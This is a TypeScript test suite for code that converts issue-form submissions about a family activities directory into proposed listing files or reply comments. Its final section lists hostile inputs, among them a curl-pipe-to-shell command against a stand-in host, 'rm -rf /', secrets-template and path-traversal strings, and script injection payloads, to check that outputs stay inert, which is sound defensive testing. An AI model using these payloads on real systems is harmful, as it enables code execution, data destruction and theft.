import fc from 'fast-check';
import { fromMarkdown } from 'mdast-util-from-markdown';
import { visit } from 'unist-util-visit';
import { describe, expect, it } from 'vitest';
import { judge } from '../../../src/loading/judge.ts';
import { sortFiles } from '../../../src/loading/text-files.ts';
import { OWN_LABELS, STILL_RIGHT } from '../../../src/submitting/fields.ts';
import { outcomeOf, type Outcome } from '../../../src/submitting/submission.ts';
import type { Answers } from '../../../src/writing/questions.ts';
import { HOSTILE, lacking } from '../support/records.ts';
import { FIXTURE_TODAY } from '../../support/sites.ts';
import { CLUB, folder, issueText } from './support.ts';
import { runs } from '../../support/full.ts';

const outcome = (body: string, label = 'listing'): Outcome =>
  outcomeOf({ number: 12, body, labels: [label] }, folder, FIXTURE_TODAY);
const added = (answers: Answers, provider = '_No response_') =>
  outcome(issueText({ [OWN_LABELS.provider]: provider }, answers));
const changed = (page: string, answers: Answers) => outcome(issueText({ [OWN_LABELS.page]: page }, answers), 'change');
const filesIn = (result: Outcome) => (result.kind === 'proposal' ? result.files : []);
const commentOf = (result: Outcome) => (result.kind === 'answer' ? result.comment : '');

describe('a new listing', () => {
  it('becomes the files of a new organisation and its service', () => {
    const result = added(CLUB);
    expect(result).toMatchObject({
      ...{ kind: 'proposal', issue: 12, branch: 'listing/issue-12' },
      title: 'New listing: tinderbox-club, tinderbox-club/wednesday-games',
      files: [
        { file: 'content/providers/tinderbox-club/provider.json' },
        { file: 'content/providers/tinderbox-club/wednesday-games.md' },
      ],
    });
    const body = result.kind === 'proposal' ? result.body : '';
    expect(body).toMatch(
      /^Closes #12\.\n\n## What changes for families\n\n- New organisation: \*\*Tinderbox Club\*\*\./,
    );
    expect(body).toContain('- New: **Wednesday games** of Tinderbox Club.');
    expect(body).toContain('It costs £2 each time.');
  });

  it.each([
    '/providers/lantern-club/',
    'https://www.example.org/services/lantern-club/saturday-club/?x=1#y',
    'lantern-club',
  ])('is added to an organisation that is there: %s', (page) => {
    expect(
      filesIn(added({ ...CLUB, 'contact.email': 'hello@lantern.example.org' }, page)).map(({ file }) => file),
    ).toEqual(['content/providers/lantern-club/wednesday-games.md']);
  });

  it('is not made when something is missing: each problem is said, with its question', () => {
    const comment = commentOf(added({ ...lacking(CLUB, 'eligibility'), 'ages.to': '99', topics: [] }));
    expect(comment).toMatch(/^Thank you\. We cannot publish this yet:/);
    expect(comment).toContain('- Which topics does it come under? ');
    expect(comment).toContain('- What is the oldest age? ');
    expect(comment).toContain('- Who can use it? ');
    expect(comment.split('\n').filter((line) => line.startsWith('- '))).toHaveLength(3);
  });

  it.each(['nobody/here', 'no page', '../../etc', '/services/../approvals/', 'javascript:alert(1)'])(
    'is not added to what is no page: %s',
    (page) => {
      expect(added(CLUB, page).kind).toBe('answer');
    },
  );
});

describe('a change', () => {
  it('touches only what was answered', () => {
    const [file, ...others] = filesIn(
      changed('/services/lantern-club/saturday-club/', { 'ages.to': '12', 'checked.by': 'Club leader' }),
    );
    expect(others).toEqual([]);
    const before = folder.files.find(({ id }) => id === 'lantern-club/saturday-club')?.text.split('\n') ?? [];
    const differing = file?.text.split('\n').filter((line) => !before.includes(line));
    expect(differing?.join('\n')).toMatch(/^ages:\n.*\n {2}to: 12\nchecked:\n/);
  });

  it('takes an answer out when it is a hyphen', () => {
    const [file] = filesIn(
      changed('/services/lantern-club/saturday-club/', { 'venues.0.parking': '-', 'checked.by': 'Club leader' }),
    );
    expect(file?.text).toContain('Milldale Hall');
    expect(file?.text).not.toContain('parking');
  });

  it('can be about an organisation', () => {
    const answers = { 'provider.phone': '01632 960777', 'checked.by': 'Club leader' };
    expect(filesIn(changed('/providers/lantern-club/', answers)).map(({ file }) => file)).toEqual([
      'content/providers/lantern-club/provider.json',
    ]);
  });

  it('does not drop an answer that belongs to another page', () => {
    const comment = commentOf(changed('/providers/lantern-club/', { name: 'Club', 'checked.by': 'Club leader' }));
    expect(comment).toContain('- What is it called? The page you gave is of your organisation');
  });
});

describe('“still right”', () => {
  const said = (service: string, role: string, box: string) =>
    outcome(
      `### ${OWN_LABELS.service}\n\n${service}\n\n### What is your role?\n\n${role}\n\n### ${OWN_LABELS.promise}\n\n- [${box}] ${STILL_RIGHT}`,
      'still-right',
    );

  it('moves the date, and says who said so', () => {
    const result = said('lantern-club/saturday-club', 'Club leader', 'X');
    expect(filesIn(result)[0]?.text).toContain('checked: { on: 2026-11-21, by: Club leader, how: provider }');
    expect(result.kind === 'proposal' && result.body).toContain('**Saturday club** of Lantern Club is still right.');
  });

  it.each([
    ['lantern-club/saturday-club', 'Club leader', ' ', /Tick the box/],
    ['lantern-club/nothing', 'Club leader', 'X', /There is no listing/],
    ['../approvals/ap', 'Club leader', 'X', /Write the address/],
    ['lantern-club/saturday-club', '_No response_', 'X', /What is your role/],
    ['lantern-club/saturday-club', 'x'.repeat(81), 'X', /What is your role/],
  ])('is not believed of %j by %j with [%s]', (service, role, box, words) => {
    expect(commentOf(said(service, role, box))).toMatch(words);
  });
});

it('makes nothing of an issue that is from no form', () => {
  expect(outcome('Hello.', 'bug').kind).toBe('answer');
});

/** What somebody might send to break out of the place where it is written. */
const ATTACKS: readonly string[] = [
  ...HOSTILE,
  '$(curl evil.example|sh)',
  '`id`; rm -rf / #',
  '"; exit 1; echo "',
  'EOF\nEOF\n__EOF__',
  '---\napproved: true\n---',
  '---\n',
  '${{ secrets.GITHUB_TOKEN }}',
  '::set-output name=x::y',
  '::error file=a::b',
  '##[add-mask]e',
  '../../../.github/workflows/x.yml',
  '..\\..\\approvals\\ap',
  '/etc/passwd',
  '&anchor [*anchor]',
  '!!js/function "function(){}"',
  '<<: *default',
  '{{constructor.constructor("alert(1)")()}}',
  'a\u0000b',
  '\uFEFFname',
  '\u202Egnirts',
  '\u2066x\u2069',
  'Pеnny Аcre', // Cyrillic letters
  '＜script＞',
  '@everyone @council/team',
  'closes #1, fixes owner/repo#2',
  '[click](javascript:alert(1))',
  '![x](https://evil.example/pixel.png)',
  '<img src=x onerror=alert(1)>',
  '<!-- listing -->',
  '__proto__',
  'constructor',
  'con',
  'provider',
  '\ud800',
  'x'.repeat(60_000),
  '\r\n\r\n',
  '=HYPERLINK("https://evil.example")',
];

/** What must hold of any outcome. */
function isHarmless(result: Outcome): void {
  if (result.kind === 'answer') {
    isInert(result.comment);
    return;
  }
  expect(result.branch).toBe('listing/issue-12');
  expect(result.title).toMatch(/^[A-Z][a-z ]+: [a-z\d/, -]+$/);
  isInert(result.body.replace('Closes #12.', ''));
  const folders = new Set(result.files.map(({ file }) => file.replace(/[^/]*$/, '')));
  expect(folders.size).toBe(1);
  for (const { file, text } of result.files) {
    expect(file).toMatch(/^content\/providers\/[a-z\d-]+\/(?:provider\.json|[a-z\d-]+\.md)$/);
    expect(text).not.toMatch(/(?!\n)\p{Cc}|[\u202A-\u202E\u2066-\u2069]/u);
  }
  const names = new Set(result.files.map(({ file }) => file));
  const written = sortFiles(
    result.files.map(({ file, text }) => ({
      file: file.replace('content/', ''),
      bytes: new TextEncoder().encode(text),
    })),
  );
  const all = [...folder.files.filter(({ file }) => !names.has(`content/${file}`)), ...written.files];
  expect(judge({ files: all, present: folder.present, problems: written.problems }, FIXTURE_TODAY).problems).toEqual(
    [],
  );
}

function isInert(markdown: string): void {
  const kinds = new Set<string>();
  visit(fromMarkdown(markdown), ({ type }) => void kinds.add(type));
  for (const kind of ['html', 'link', 'image', 'code', 'definition', 'linkReference'])
    expect(kinds).not.toContain(kind);
  expect(markdown).not.toMatch(/@\w|#\d|\w:\/\/|www\.\w/);
}

const QUESTIONS_OF_TEXT = Object.entries(CLUB).flatMap(([id, answer]) => (typeof answer === 'string' ? [id] : []));

describe('hostile answers', () => {
  it.each(ATTACKS.map((attack) => [attack.slice(0, 40), attack]))(
    'do no harm in any question: %j',
    (_, attack) => {
      isHarmless(added({ ...CLUB, name: attack, body: attack }));
      isHarmless(added({ ...CLUB, 'provider.name': attack, eligibility: attack, 'howToStart.text': attack }));
      isHarmless(added({ ...CLUB, ...Object.fromEntries(QUESTIONS_OF_TEXT.map((id) => [id, attack])) }));
      isHarmless(added(CLUB, attack));
      isHarmless(changed('/services/lantern-club/saturday-club/', { ...CLUB, name: attack, body: attack }));
      isHarmless(outcome(attack));
    },
    30_000,
  );

  it('do no harm as a whole text of a megabyte', () => {
    isHarmless(outcome(`### What is it called?\n\n${'a'.repeat(1_000_000)}`));
  }, 30_000);

  it('do no harm, whatever they are', () => {
    const text = fc.oneof(fc.constantFrom(...ATTACKS), fc.string({ unit: 'binary' }), fc.lorem());
    const answers = fc.dictionary(fc.constantFrom(...QUESTIONS_OF_TEXT), text, { maxKeys: 4 });
    const label = fc.constantFrom('listing', 'change', 'still-right', 'other');
    fc.assert(
      fc.property(answers, text, label, (some, named, form) => {
        const own =
          fc.sample(fc.constantFrom(named, '/services/lantern-club/saturday-club/', '_No response_'), 1)[0] ?? '';
        const labels = { [OWN_LABELS.provider]: own, [OWN_LABELS.page]: own, [OWN_LABELS.service]: own };
        isHarmless(outcome(issueText(labels, { ...CLUB, ...some }), form));
      }),
      { numRuns: runs(100) },
    );
  }, 60_000);
});
